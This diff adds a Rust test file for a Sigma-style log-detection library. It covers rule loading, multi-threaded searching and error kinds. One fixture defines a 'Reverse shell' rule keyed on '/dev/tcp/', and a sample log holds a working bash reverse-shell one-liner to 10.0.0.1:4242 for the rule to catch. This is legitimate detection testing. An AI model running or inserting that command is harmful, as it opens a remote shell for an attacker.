@@ -1,0 +1,213 @@
+//! The runtime driven as a second front end would drive it (a Spark stage,
+//! a language binding): rules loaded and searched through
+//! `sigrep::run`, output and messages captured in memory, no binary.
+
+use std::io::{self, Write};
+use std::path::PathBuf;
+
+use sigrep::printer::OutputMode;
+use sigrep::run::{ErrorKind, LoadedRules, Report, RuleSource, RunnerBuilder};
+
+use crate::util::Dir;
+
+const WMI: &str = include_str!("../examples/wmi_persistence.yml");
+
+const SHELL: &str = "title: Reverse shell
+id: 11111111-2222-3333-4444-555555555555
+level: medium
+logsource: {product: linux}
+detection:
+    keywords: ['/dev/tcp/']
+    condition: keywords
+";
+
+/// A rule set directory: the WMI rule, a shell rule, and a broken file.
+fn rule_dir(dir: &Dir) -> PathBuf {
+    dir.create("rules/wmi.yml", WMI);
+    dir.create("rules/shell.yml", SHELL);
+    dir.create("rules/broken.yml", "title: x\ndetection:\n  sel: [a\n");
+    dir.path().join("rules")
+}
+
+fn load_set(dir: &Dir, report: &mut dyn FnMut(&str)) -> LoadedRules {
+    RuleSource { paths: vec![rule_dir(dir)], ..RuleSource::default() }.load(report).unwrap()
+}
+
+/// Runs `builder` over `operands`: output, messages, report.
+fn run(
+    builder: &RunnerBuilder,
+    rules: LoadedRules,
+    operands: &[PathBuf],
+) -> (String, Vec<String>, Report) {
+    let runner = builder.build(rules).unwrap();
+    let mut out = Vec::new();
+    let mut messages = Vec::new();
+    let report =
+        runner.run(operands, &mut out, &mut |m: &str| messages.push(m.to_string())).unwrap();
+    (String::from_utf8(out).unwrap(), messages, report)
+}
+
+#[test]
+fn a_rule_set_over_files_through_the_library() {
+    let dir = Dir::new();
+    let mut load_messages = Vec::new();
+    let rules = load_set(&dir, &mut |m: &str| load_messages.push(m.to_string()));
+    // The broken rule file is reported and skipped; the others load.
+    assert!(rules.error && rules.multi);
+    assert_eq!(rules.set.rules().len(), 2);
+    assert_eq!(load_messages.len(), 1, "{load_messages:?}");
+    assert!(load_messages[0].contains("broken.yml:"), "{load_messages:?}");
+
+    let wmi_log = PathBuf::from(concat!(env!("CARGO_MANIFEST_DIR"), "/examples/wmi.log"));
+    let shell_log = dir.create("shell.log", "ok\nbash -i >& /dev/tcp/10.0.0.1/4242 0>&1\nok\n");
+    let missing = dir.path().join("missing.log");
+    let operands = vec![wmi_log.clone(), missing.clone(), shell_log.clone()];
+
+    let mut builder = RunnerBuilder::new();
+    builder.line_number(true).stats(true);
+    let (out, messages, report) = run(&builder, load_set(&dir, &mut |_| {}), &operands);
+    let lines: Vec<&str> = out.lines().collect();
+    let wmi = wmi_log.display();
+    let shell = shell_log.display();
+    assert!(lines[0].starts_with(&format!("{wmi}:1:wmi:TimeCreated=")), "{out}");
+    assert!(
+        lines.contains(&format!("{shell}:2:shell:bash -i >& /dev/tcp/10.0.0.1/4242 0>&1").as_str()),
+        "{out}"
+    );
+    // The missing file is a message in argument order, and an error.
+    assert_eq!(messages, [format!("{}: No such file or directory", missing.display())]);
+    assert!(report.error);
+    assert_eq!(report.exit_status(), 2);
+    assert_eq!(report.inputs, 3);
+    // Rules load in name order: shell.yml is rule 0, wmi.yml rule 1.
+    let wmi_hits = lines.iter().filter(|l| l.contains(":wmi:")).count() as u64;
+    assert!(wmi_hits > 0);
+    assert_eq!(report.rule_hits.counts(), [1, wmi_hits]);
+    assert_eq!(report.selected, wmi_hits + 1);
+    let stats = &out[out.find("sigrep stats:").expect("--stats block")..];
+    assert!(
+        stats.starts_with(&format!(
+            "sigrep stats: {} selected lines; 2 of 2 rules hit\n",
+            wmi_hits + 1
+        )),
+        "{stats}"
+    );
+
+    // Two threads print the same bytes, messages and report.
+    builder.threads(2);
+    let (out2, messages2, report2) = run(&builder, load_set(&dir, &mut |_| {}), &operands);
+    assert_eq!(out2, out);
+    assert_eq!(messages2, messages);
+    assert_eq!(report2, report);
+}
+
+/// One large file split across threads prints what one thread prints, line
+/// numbers and byte offsets included, in every output shape that splits.
+#[test]
+fn a_split_file_prints_what_one_thread_prints() {
+    let dir = Dir::new();
+    let rule = dir.create("wmi.yml", WMI);
+    let sample = std::fs::read(concat!(env!("CARGO_MANIFEST_DIR"), "/examples/wmi.log")).unwrap();
+    // Over the split threshold (4 MiB): matching lines spread over parts.
+    let mut log = Vec::new();
+    let mut i = 0u64;
+    while log.len() < 6 << 20 {
+        writeln!(log, "filler line {i} with nothing of interest").unwrap();
+        if i % 997 == 0 {
+            log.extend_from_slice(&sample);
+        }
+        i += 1;
+    }
+    let log = dir.create("big.log", log);
+    for (mode, json, numbers) in [
+        (OutputMode::Lines, false, true),
+        (OutputMode::Lines, true, false),
+        (OutputMode::Count, false, false),
+    ] {
+        let outputs: Vec<(String, Report)> = [1, 2, 3]
+            .into_iter()
+            .map(|threads| {
+                let rules =
+                    RuleSource { paths: vec![rule.clone()], single: true, ..RuleSource::default() }
+                        .load(&mut |_| {})
+                        .unwrap();
+                let mut builder = RunnerBuilder::new();
+                builder
+                    .mode(mode)
+                    .json(json)
+                    .line_number(numbers)
+                    .byte_offset(numbers)
+                    .threads(threads);
+                let (out, messages, report) = run(&builder, rules, std::slice::from_ref(&log));
+                assert!(messages.is_empty(), "{messages:?}");
+                (out, report)
+            })
+            .collect();
+        assert!(outputs[0].1.selected > 100, "{}", outputs[0].1.selected);
+        for other in &outputs[1..] {
+            assert!(other.0 == outputs[0].0, "{mode:?} json {json}: output differs");
+            assert_eq!(other.1, outputs[0].1);
+        }
+    }
+}
+
+/// A writer whose reader went away after `room` bytes.
+struct ClosedAfter {
+    room: usize,
+}
+
+impl Write for ClosedAfter {
+    fn write(&mut self, buf: &[u8]) -> io::Result<usize> {
+        if self.room == 0 {
+            return Err(io::Error::from(io::ErrorKind::BrokenPipe));
+        }
+        let n = buf.len().min(self.room);
+        self.room -= n;
+        Ok(n)
+    }
+
+    fn flush(&mut self) -> io::Result<()> {
+        Ok(())
+    }
+}
+
+/// Errors come as kinds a front end can act on, not as strings to parse.
+#[test]
+fn errors_have_kinds() {
+    let dir = Dir::new();
+    // A broken single rule is fatal, and names its file.
+    let broken = dir.create("broken.yml", "title: x\ndetection:\n  sel: [a\n");
+    let e = RuleSource { paths: vec![broken.clone()], single: true, ..RuleSource::default() }
+        .load(&mut |_| {})
+        .unwrap_err();
+    assert_eq!(e.kind(), ErrorKind::Rule);
+    assert!(e.to_string().starts_with(&format!("{}:", broken.display())), "{e}");
+
+    // JSON escaping cannot be forced on legacy rules.
+    let rule = dir.create("wmi.yml", WMI);
+    let legacy = || {
+        RuleSource {
+            paths: vec![rule.clone()],
+            single: true,
+            legacy: true,
+            ..RuleSource::default()
+        }
+        .load(&mut |_| {})
+        .unwrap()
+    };
+    let e = RunnerBuilder::new()
+        .json_escaping(sigrep::run::JsonEscaping::Always)
+        .build(legacy())
+        .unwrap_err();
+    assert_eq!(e.kind(), ErrorKind::Usage);
+
+    // A reader that goes away ends the run with BrokenPipe, whatever the
+    // thread count.
+    let log = PathBuf::from(concat!(env!("CARGO_MANIFEST_DIR"), "/examples/wmi.log"));
+    for threads in [1, 2] {
+        let runner = RunnerBuilder::new().threads(threads).build(legacy()).unwrap();
+        let operands = [log.clone(), log.clone(), log.clone()];
+        let e = runner.run(&operands, &mut ClosedAfter { room: 10 }, &mut |_| {}).unwrap_err();
+        assert_eq!(e.kind(), ErrorKind::BrokenPipe, "{threads} threads");
+    }
+}
